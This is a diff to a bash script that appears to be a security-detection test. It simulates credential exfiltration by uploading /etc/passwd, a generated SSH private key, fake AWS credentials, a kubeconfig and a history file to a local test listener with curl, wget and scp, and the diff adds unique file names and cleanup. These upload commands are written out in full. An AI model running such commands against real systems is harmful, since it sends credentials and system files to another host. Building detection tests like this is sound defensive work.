@@ -1,5 +1,5 @@
 #!/bin/bash
-# desc: credential files handed to upload commands bound for another host: curl -F @/etc/passwd, curl -T of an SSH private key, wget --post-file of cloud credentials, curl --data-binary @ of shell history, scp of a kubeconfig
+# desc: credential files handed to upload commands bound for another host: curl -F @/etc/passwd, curl -T of an SSH private key, wget --post-file of cloud credentials, curl --data-binary @ of a history file, scp of a kubeconfig
 # mitre: T1048, T1567, T1552.001
 # expect: sensitive_file_uploaded
 source "$ATTACK_LIB"
@@ -20,14 +20,17 @@ for _ in range(4): s.handle_request()
 PY
 wait_listen "$PEER" 8080
 u=http://$PEER:8080/up
-# The throwaway user's secrets, made for this run.
-as_user sh -c 'mkdir -p ~/.ssh ~/.aws ~/.kube && ssh-keygen -q -t ed25519 -N "" -f ~/.ssh/id_ed25519 &&
-	printf "[default]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = x\n" > ~/.aws/credentials &&
-	printf "apiVersion: v1\nkind: Config\n" > ~/.kube/config && echo "mysql -p secret" >> ~/.bash_history'
+# The throwaway user's secrets, made for this run (names unique to it, removed at exit).
+key=$ATTACK_HOME/.ssh/id_ed25519_$ATTACK_ID aws=$ATTACK_HOME/.aws/credentials_$ATTACK_ID
+kube=$ATTACK_HOME/.kube/config_$ATTACK_ID hist=$ATTACK_HOME/.mysql_history_$ATTACK_ID
+undo "rm -f '$key' '$key.pub' '$aws' '$kube' '$hist'"
+as_user sh -c "mkdir -p ~/.ssh ~/.aws ~/.kube && ssh-keygen -q -t ed25519 -N '' -f '$key' &&
+	printf '[default]\naws_access_key_id = AKIAEXAMPLE\naws_secret_access_key = x\n' > '$aws' &&
+	printf 'apiVersion: v1\nkind: Config\n' > '$kube' && echo 'select 1;' > '$hist'"
 curl -s -F "f=@/etc/passwd" "$u" -o /dev/null
-as_user curl -s -T "$ATTACK_HOME/.ssh/id_ed25519" "$u" -o /dev/null
-as_user wget -q -O /dev/null --post-file="$ATTACK_HOME/.aws/credentials" "$u"
-as_user curl -s --data-binary "@$ATTACK_HOME/.bash_history" "$u" -o /dev/null
+as_user curl -s -T "$key" "$u" -o /dev/null
+as_user wget -q -O /dev/null --post-file="$aws" "$u"
+as_user curl -s --data-binary "@$hist" "$u" -o /dev/null
 # scp to a host without an ssh server: the copy is attempted, the login fails
-timeout 10 scp -o BatchMode=yes -o ConnectTimeout=3 "$ATTACK_HOME/.kube/config" "root@$PEER:/tmp/" >/dev/null 2>&1 || true
+timeout 10 scp -o BatchMode=yes -o ConnectTimeout=3 "$kube" "root@$PEER:/tmp/" >/dev/null 2>&1 || true
 wait
